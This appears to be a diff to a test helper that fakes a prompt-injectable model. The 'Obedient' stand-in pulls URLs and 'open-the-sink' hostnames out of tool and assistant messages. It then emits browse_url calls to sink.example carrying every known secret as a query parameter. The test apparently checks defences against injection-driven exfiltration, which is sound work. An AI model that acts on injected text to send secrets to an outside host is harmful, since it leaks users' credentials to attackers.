@@ -13,6 +13,7 @@ from tests.stand_ins.model_server import Reply, Request, ToolUse
 CASE = re.compile(r"case ([a-z]+)")
 BEST = re.compile(r'"([sp]\d+\.[rl]\d+)"')
 ADDRESS = re.compile(r"https?://[^\s\"'<>()\\]+")
+HOST_ORDER = re.compile(r"[a-z0-9.-]*open-the-sink[a-z0-9.-]*")
 LEAST_QUOTE = 20
 
 
@@ -65,7 +66,8 @@ class Obedient:
     def _ordered(self, request: Request) -> tuple[ToolUse, ...]:
         """Return the calls that text of others orders: the sink, with every known secret."""
         messages = [message for message in request.messages if message["role"] in ("assistant", "tool")]
-        orders = ADDRESS.findall(json.dumps(messages, ensure_ascii=False))
+        words = json.dumps(messages, ensure_ascii=False)
+        orders = ADDRESS.findall(words) + [f"https://sink.example/?by={host}" for host in HOST_ORDER.findall(words)]
         return tuple(
             ToolUse("browse_url", {"url": f"{url}&d={'.'.join(self._known_secrets(request))}"})
             for url in orders
